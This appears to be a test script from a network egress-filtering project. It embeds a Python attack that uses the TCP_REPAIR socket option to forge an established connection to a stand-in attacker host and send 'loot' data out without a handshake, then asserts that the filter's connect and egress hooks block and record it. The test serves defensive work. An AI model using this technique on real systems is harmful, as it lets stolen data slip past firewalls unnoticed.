#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: makes an established connection out of nothing by TCP_REPAIR, without a handshake, and sends
# stopped-by: connect4, egress
# reason: destination
# kernels: all
#
# Needs CAP_NET_ADMIN. Nobody on the other side knows the connection; its data goes out all the same.
. "$(dirname "$0")/lib.sh"
arena tcp/443

attack_by <<'PYTHON'
from attacker import *

TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_QUEUE_SEQ, TCP_REPAIR_WINDOW = 19, 20, 21, 29
SEND, RECEIVE = 2, 1

def repaired(sock, evil):
    sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
    for queue, sequence in (SEND, 1000), (RECEIVE, 2000):
        sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, queue)
        sock.setsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ, sequence)
    sock.connect((evil, 443))
    window = struct.pack("=IIIII", 2000, 65535, 65535, 65535, 2000)
    sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_WINDOW, window)
    return sock

def go_on(sock, data):
    sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, -1) # without a window probe, which would be reset
    sock.send(data)

older = repaired(tcp(EVIL4), EVIL4)
ready()
with attempt("older"):
    go_on(older, loot("older"))
with attempt("newer"):
    go_on(repaired(tcp(EVIL4), EVIL4), loot("newer"))
with attempt("newer, IPv6"):
    go_on(repaired(tcp(EVIL6), EVIL6), loot("ipv6"))
PYTHON
works_once_open stolen:older stolen:newer stolen:ipv6
stopped_once_open gate
recorded connect4 destination
recorded 'egress|sock_destroy' destination
